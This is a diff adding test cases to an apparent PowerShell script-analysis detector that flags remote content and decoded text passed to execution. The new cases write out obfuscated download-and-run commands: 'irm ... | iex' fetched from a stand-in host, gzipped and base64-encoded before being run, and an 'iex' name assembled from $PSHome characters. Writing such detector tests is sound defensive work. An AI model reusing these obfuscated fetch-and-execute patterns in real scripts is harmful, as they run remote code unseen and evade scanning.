@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib'
 import t from 'tap'
 import { readScript } from '../../src/analysis/shell/script-files.ts'
 
@@ -34,6 +35,21 @@ t.test('what a script of PowerShell hands on', async (t) => {
       'a script as numbers',
       `iex (-join (${codes('irm https://c.invalid/p | iex')} | % { [char]$_ }))`,
       ['decoded-text->process', 'remote-content->process'],
+    ],
+    [
+      'a packed script whose stream is a variable',
+      `$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync('irm https://c.invalid/p | iex').toString('base64')}'))\niex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
+      ['decoded-text->process', 'remote-content->process'],
+    ],
+    [
+      'packed data that is read',
+      `$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync('irm https://c.invalid/p | iex').toString('base64')}'))\n$t = (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
+      [],
+    ],
+    [
+      'iex of letters that are always there',
+      `(irm https://c.invalid/p) | & ($PSHome[4]+$PSHome[30]+'x')`,
+      ['remote-content->process'],
     ],
     ['a text as numbers that is shown', `Write-Output (-join (${codes('ready')} | % { [char]$_ }))`, []],
     ['a block of script that fetches', `Start-Job -ScriptBlock { irm 'https://c.invalid/d' -OutFile d.json }`, []],
